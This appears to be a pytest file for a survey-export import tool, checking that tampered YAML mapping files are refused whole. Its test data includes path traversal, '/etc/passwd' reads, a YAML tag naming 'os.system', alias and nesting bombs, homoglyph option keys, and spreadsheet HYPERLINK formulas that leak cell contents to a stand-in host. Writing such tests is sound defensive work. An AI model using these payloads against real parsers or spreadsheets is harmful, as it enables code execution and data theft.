"""A mapping that somebody else wrote: it reads no other file, runs nothing, and makes no answer of what is none."""

from __future__ import annotations

from pathlib import Path

import pytest

from kit.answers.answer_files import Problems
from kit.answers.other_tools.exported import read_exported
from kit.answers.other_tools.mapping import mapping_beside, read_mapping, write_mapping
from kit.answers.other_tools.proposing import propose
from kit.answers.other_tools.questions import questions_of
from kit.answers.other_tools.settled import settle
from kit.answers.other_tools.taking import taken
from kit.errors import KitError
from tests.answers.other_tools.shapes import as_csv, google_forms, lime_survey, the_week

WEEKS = {1: the_week()}


def played(folder: Path, text: str, old: str, new: str):
    """The rows that come of an export whose mapping had *old* replaced by *new*."""
    survey = folder / "survey.csv"
    survey.write_text(text, "utf-8")
    questions, exported = questions_of(WEEKS, None), read_exported(survey)
    write_mapping(mapping_beside(survey), exported, propose(exported, questions))
    written = mapping_beside(survey).read_text("utf-8")
    assert old in written
    mapping_beside(survey).write_text(written.replace(old, new, 1), "utf-8")
    mapping, problems = read_mapping(mapping_beside(survey)), Problems()
    exported = read_exported(survey, mapping.header_lines)
    rows = list(taken(exported, settle(mapping, exported, questions), problems))
    problems.refuse_if_any()
    return rows


ENERGY = "item: 1/pulse/energy"
OFTEN = '"often": "often"'
ATTACKS = {
    "an address as an answer": ("item: participant    # an address becomes", f"{ENERGY}    # an address becomes"),
    "times as answers": ("item: leave out    # the program", f"{ENERGY}    # the program"),
    "a path": (ENERGY, "item: ../../private/answers.db"),
    "a path as a column": ("column: C", "column: /etc/passwd"),
    "a key that includes a file": ("columns:\n", "include: /etc/passwd\ncolumns:\n"),
    "a tag": (ENERGY, "item: !!python/name:os.system 1/pulse/energy"),
    "a local tag": (ENERGY, "item: !include /etc/passwd"),
    "an alias bomb": ("columns:\n", "columns: &a [&b [x, x], *b, *b]\nmore: [*a, *a, *a]\n"),
    "a merge key": ("header_lines: 1", "<<: {header_lines: 1}"),
    "two documents": ("columns:\n", "---\ncolumns:\n"),
    "depth without end": ("header_lines: 1", "header_lines: " + "[" * 5000),
    "a huge file": ("header_lines: 1", "header_lines: 1\n# " + "x" * 1_000_000),
    "very many entries": ("columns:\n", "columns:\n" + "  - column: A\n    header: x\n    item: leave out\n" * 9000),
    "two columns for one question": (ENERGY, "item: 1/pulse/pause"),
    "a private question": (ENERGY, "item: 1/pulse/letter"),
    "a text": ("item: leave out    # 1/pulse/story", "item: 1/pulse/story    # 1/pulse/story"),
    "swapped options": (OFTEN, '"often": "never"'),
    "swapped options with a number": (OFTEN, '"3 - often": "never"'),
    "swapped options in capitals": (OFTEN, '"OFTEN ": "never"'),
    "swapped options in Cyrillic": (OFTEN, '"\u043eft\u0435n": "never"'),
    "an option that only looks right": (OFTEN, '"often": "\u043eften"'),
    "a key that cannot be seen": (OFTEN, '"often\\u200b": "never"'),
    "a label that is an address": (OFTEN, '"ana@example.org": "never"'),
    "a question that only looks right": (ENERGY, "item: 1/pulse/\u0435nergy"),
    "numbers out of range": (ENERGY, f"{ENERGY}\n    first: 1\n    last: 9999999"),
    "a rating turned round": (ENERGY, f"{ENERGY}\n    first: 10\n    last: 0"),
    "other headers": ("header_lines: 1", "header_lines: 2"),
    "a column of another file": ("column: C", "column: AAA"),
    "no way to tell people apart": ("item: participant", "item: leave out"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_hostile_mapping_is_refused_whole_in_a_sentence(tmp_path, name):
    with pytest.raises(KitError) as refused:
        played(tmp_path, google_forms(), *ATTACKS[name])
    told = "\n".join([str(refused.value), *getattr(refused.value, "problems", ())])
    assert "survey" in told
    assert "root:" not in told
    assert "Traceback" not in told
    assert {path.name for path in tmp_path.iterdir()} == {"survey.csv", "survey.map.yaml"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t="])
def test_a_formula_in_a_header_or_a_label_stays_words(tmp_path, start):
    formula = f'{start}HYPERLINK("http://x.test?"&A1)'
    text = google_forms().replace("Timestamp", f'"{formula.replace(chr(34), chr(34) * 2)}"', 1)
    rows = played(tmp_path, text, OFTEN, f"{OFTEN}\n      {formula.strip()!r}: often")
    assert {row.answer for row in rows if row.item == "pause"} == {"often", "never", "some", ""}


def test_an_answer_cannot_be_moved_to_another_persons_column_of_options(tmp_path):
    with pytest.raises(KitError) as refused:
        played(tmp_path, lime_survey(), 'option: "ideas"', 'option: "rest"')
    assert any("both said to be 1/pulse/hopes, rest" in problem for problem in refused.value.problems)


def test_an_export_whose_cells_are_addresses_gives_no_answers_whatever_is_said_of_them(tmp_path):
    text = as_csv([["Your code", "Best colleague?"], ["CF7", "kim@example.org"], ["GH3", "lee@example.org"]])
    with pytest.raises(KitError, match="so no answer is read from it"):
        played(tmp_path, text, "item: leave out", "item: 1/pulse/pause\n    labels: {kim@example.org: often}")
    mixed = text.replace("kim@example.org", "often")
    with pytest.raises(KitError, match="holds what stands for no option"):
        played(tmp_path, mixed, "item: leave out", "item: 1/pulse/pause")
